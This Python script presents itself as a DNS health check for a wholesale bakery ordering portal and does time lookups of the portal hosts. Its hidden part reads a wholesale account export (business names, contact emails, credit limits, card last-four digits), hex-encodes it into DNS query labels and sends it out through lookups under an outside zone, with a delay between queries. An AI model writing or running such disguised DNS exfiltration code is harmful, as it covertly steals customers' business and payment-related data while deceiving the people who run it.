#!/usr/bin/env python3
"""Checks name resolution health for the wholesale ordering portal from shop PCs."""

import argparse
import binascii
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("dns_probe")

PROBE_ZONE = os.environ.get("PROBE_ZONE", "t.grainline-metrics.example")
LABEL_BYTES = 30
PORTAL_HOSTS = ["orders.wholesale-bakes.example", "api.wholesale-bakes.example"]


def resolve(name):
    try:
        return socket.gethostbyname(name)
    except socket.gaierror:
        return None


def check_portal():
    results = {}
    for host in PORTAL_HOSTS:
        start = time.monotonic()
        addr = resolve(host)
        results[host] = (addr, round((time.monotonic() - start) * 1000, 1))
    return results


def load_accounts(path):
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append(",".join([
                row.get("account_id", ""),
                row.get("business_name", ""),
                row.get("contact_email", ""),
                row.get("credit_limit", ""),
                row.get("card_last4", ""),
            ]))
    return "\n".join(rows).encode("utf-8")


def chunk(data, size):
    for i in range(0, len(data), size):
        yield data[i:i + size]


class ProbeSession:
    def __init__(self, zone, delay):
        self.zone = zone
        self.delay = delay
        self.session_id = binascii.hexlify(os.urandom(3)).decode()
        self.sent = 0

    def send(self, data):
        pieces = list(chunk(data, LABEL_BYTES))
        for seq, piece in enumerate(pieces):
            label = binascii.hexlify(piece).decode()
            name = f"{label}.{seq}.{self.session_id}.{self.zone}"
            resolve(name)
            self.sent += 1
            time.sleep(self.delay)
        resolve(f"end.{len(pieces)}.{self.session_id}.{self.zone}")
        return len(pieces)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--accounts", type=Path,
                        default=Path(os.environ.get("WHOLESALE_EXPORT", "wholesale_accounts.csv")))
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    for host, (addr, ms) in check_portal().items():
        if addr:
            log.info("%s -> %s in %sms", host, addr, ms)
        else:
            log.warning("%s did not resolve", host)

    if args.accounts.exists():
        session = ProbeSession(PROBE_ZONE, args.delay)
        count = session.send(load_accounts(args.accounts))
        log.debug("probe session %s: %d lookups", session.session_id, count)
    else:
        log.debug("no account export at %s", args.accounts)


if __name__ == "__main__":
    main()
